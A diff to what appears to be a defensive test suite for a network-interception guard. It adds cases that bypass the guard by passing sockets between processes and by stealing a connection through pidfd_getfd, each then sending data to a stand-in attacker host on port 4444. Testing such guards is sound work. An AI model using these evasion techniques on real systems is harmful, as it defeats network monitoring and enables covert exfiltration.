@@ -1,11 +1,12 @@
 """Class 6: round the interception."""
 
+import pathlib
 import socket
 import subprocess
 
 from rig.attacks import ATTACKER, Attack, AttackCase, attacks
 from rig.cases import expand
-from rig.internet import MACHINE, RESOLVER, WWW
+from rig.internet import MACHINE, RESOLVER, USER, WWW
 
 # Every TCP port that something listens on at 127.0.0.1: among them, when guarded, the proxy's.
 LISTENERS = """
@@ -66,6 +67,59 @@ def attacker_calls(port, datagram=False):
             pass
     return during
 
+
+HELPER = r"""
+import os, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "datagram" else socket.SOCK_STREAM)
+if kind == "connected": s.connect((attacker, 4444))
+door = socket.socket(socket.AF_UNIX); door.bind("\0" + name); door.listen(1)
+print("up", flush=True)
+c, _ = door.accept()
+if kind in ("connected", "unconnected"):
+    socket.send_fds(c, [b"x"], [s.fileno()])
+else:
+    said, fds, _, _ = socket.recv_fds(c, 100, 1)
+    s = socket.socket(fileno=fds[0]); s.settimeout(2)
+    try: s.connect((attacker, 4444)); s.sendall(said)
+    except OSError: pass
+    c.send(b"x")
+c.recv(1)
+"""
+
+
+def accomplice(kind):
+    """A process of the same user that nobody guards hands a socket over, or takes and uses one."""
+    def prepare(case, marker):
+        uid, gid, _ = USER
+        code = f"kind, attacker, name = {kind!r}, {ATTACKER!r}, {marker!r}\n" + HELPER
+        case.accomplice = subprocess.Popen(["/usr/bin/python3", "-c", code], user=uid, group=gid,
+                                           extra_groups=[], stdout=subprocess.PIPE)
+        case.addCleanup(case.accomplice.stdout.close)
+        case.addCleanup(case.accomplice.wait)
+        case.addCleanup(case.accomplice.kill)
+        case.accomplice.stdout.readline()
+    return prepare
+
+
+TAKE = """
+c = socket.socket(socket.AF_UNIX); c.connect("\\0" + MARKER)
+_, (fd,), _, _ = socket.recv_fds(c, 10, 1); s = socket.socket(fileno=fd)
+"""
+GIVE = """
+c = socket.socket(socket.AF_UNIX); c.connect("\\0" + MARKER)
+socket.send_fds(c, [mark], [s.fileno()]); c.recv(1); time.sleep(0.1)
+"""
+
+
+def tracing_restricted():
+    path = pathlib.Path("/proc/sys/kernel/yama/ptrace_scope")
+    if path.exists() and path.read_text().strip() != "0":
+        return "processes of one user may not trace each other here"
+    return None
+
+
+PASSED_IN = ("a socket that an unguarded process made is not of the guarded cgroup, whoever uses it; it "
+             "takes an accomplice outside")
 
 BIND = f"""
 s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("{MACHINE}", {SOURCE_PORT}))
@@ -166,6 +220,27 @@ s.connect((ATTACKER, 443)); s.send(mark); s.recv(500)""", prepare=udp_flow_befor
            logged=False, silent=False),
     Attack("a datagram socket handed down", INHERITED, keywords=inherited(socket.SOCK_DGRAM, 4444),
            logged=False, silent=False),
+    Attack("a connection passed in by another process", TAKE + "s.sendall(mark); s.recv(10)",
+           prepare=accomplice("connected"), logged=False, silent=False, open=PASSED_IN),
+    Attack("a socket passed in by another process", TAKE + "s.connect((ATTACKER, 4444)); s.sendall(mark); "
+           "s.recv(10)", prepare=accomplice("unconnected"), logged=False, silent=False, open=PASSED_IN),
+    Attack("a connection taken from another process", """
+libc = ctypes.CDLL(None, use_errno=True)
+for entry in os.listdir("/proc"):
+    try:
+        if not entry.isdigit() or int(entry) == os.getpid() or \\
+                b"door.listen" not in open(f"/proc/{entry}/cmdline", "rb").read(): continue
+    except OSError: continue
+    pidfd = libc.syscall(434, int(entry), 0)
+    for number in range(3, 10):
+        fd = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
+        try:
+            if fd >= 0: os.write(fd, mark)
+        except OSError: pass
+time.sleep(0.1)""", prepare=accomplice("connected"), logged=False, silent=False, needs=tracing_restricted),
+    Attack("a socket passed out", "s = socket.socket()" + GIVE, prepare=accomplice("stream")),
+    Attack("a datagram socket passed out", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)" + GIVE,
+           prepare=accomplice("datagram"), logged=False),
     Attack("reply to a connection from outside", """
 a = socket.create_server(("", 5000)); a.settimeout(6); s, _ = a.accept(); s.sendall(mark); s.recv(10)
 time.sleep(0.1)""", during=attacker_calls(5000), logged=False, silent=False),
